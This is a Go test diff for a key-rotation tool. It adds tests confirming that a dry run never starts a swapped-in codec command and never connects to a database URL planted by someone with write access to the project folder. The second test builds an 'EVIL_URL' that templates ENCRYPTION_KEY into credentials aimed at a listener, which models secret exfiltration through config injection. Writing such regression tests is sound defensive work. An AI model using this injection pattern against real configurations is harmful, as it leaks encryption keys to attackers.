@@ -1,6 +1,8 @@
 package main
 
 import (
+	"net"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -103,4 +105,84 @@ func TestRotateDryRunEstimate(t *testing.T) {
 		t.Fatal(err)
 	}
 	p.check(old)
+}
+
+// TestRotateDryRunStartsNoCodecProgram: someone who can write the project
+// folder (no master key) switches the codec to a command of theirs and
+// leaves rekey.yaml unapproved; a dry run may load it (it only prints) but
+// starts nothing and connects nowhere. Approved, a dry run still starts
+// no codec program: the sample is measured but not re-encrypted.
+func TestRotateDryRunStartsNoCodecProgram(t *testing.T) {
+	p := rcNewProject(t, "estimate-hostile", 300)
+	marker := filepath.Join(t.TempDir(), "ran")
+	script := filepath.Join(t.TempDir(), "grab.sh")
+	if err := os.WriteFile(script, []byte("#!/bin/sh\ncat > "+marker+"\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	testkit.EditFile(t, filepath.Join(p.dir, "rekey.yaml"), "codec: aes-256-gcm", "codec: command, command: ["+script+"]")
+	for _, approved := range []bool{false, true} {
+		if approved {
+			p.must("config", "trust")
+		}
+		r := p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
+		if r.code != 0 {
+			t.Fatalf("%v", r)
+		}
+		if _, err := os.Stat(marker); err == nil {
+			t.Fatalf("approved %t: the dry run started the codec program", approved)
+		}
+		if !approved && !strings.Contains(r.stderr, "rekey.yaml is not approved") {
+			t.Fatalf("unapproved: %v", r)
+		}
+		if approved && (!strings.Contains(r.stdout, "read+crypto not sampled (a dry run starts no command codec)") || !strings.Contains(r.stdout, "~300 rows")) {
+			t.Fatalf("approved: dry run:\n%s", r.stdout)
+		}
+	}
+}
+
+// TestRotateDryRunUnapprovedConnectsNowhere: someone who can write the
+// project folder points the data key's database at a derived URL of their
+// own server embedding the key, and leaves rekey.yaml unapproved. A dry
+// run may load it (it only prints) but connects nowhere: it says why and
+// how to approve the file.
+func TestRotateDryRunUnapprovedConnectsNowhere(t *testing.T) {
+	p := rcNewProject(t, "estimate-unapproved", 300)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	accepted := make(chan struct{}, 1)
+	go func() {
+		if c, err := ln.Accept(); err == nil {
+			accepted <- struct{}{}
+			c.Close()
+		}
+	}()
+	cfgPath := filepath.Join(p.dir, "rekey.yaml")
+	testkit.EditFile(t, cfgPath, "database: DATABASE_URL", "database: EVIL_URL")
+	raw, err := os.ReadFile(cfgPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := "\nderived:\n  EVIL_URL: \"postgres://x:{{ ENCRYPTION_KEY | urlquery }}@" + ln.Addr().String() + "/db?sslmode=disable\"\n"
+	if err := os.WriteFile(cfgPath, append(raw, evil...), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r := p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
+	if r.code != 0 || !strings.Contains(r.stderr, "rekey.yaml is not approved: the dry run does not look up the data keys' columns") {
+		t.Fatalf("%v", r)
+	}
+	select {
+	case <-accepted:
+		t.Fatal("the dry run connected to the server an unapproved rekey.yaml named")
+	default:
+	}
+	// Approved, the same file is looked up (and fails on that server: a
+	// warning, still no estimate printed).
+	p.must("config", "trust")
+	r = p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
+	if strings.Contains(r.stderr, "not approved") {
+		t.Fatalf("approved: %v", r)
+	}
 }
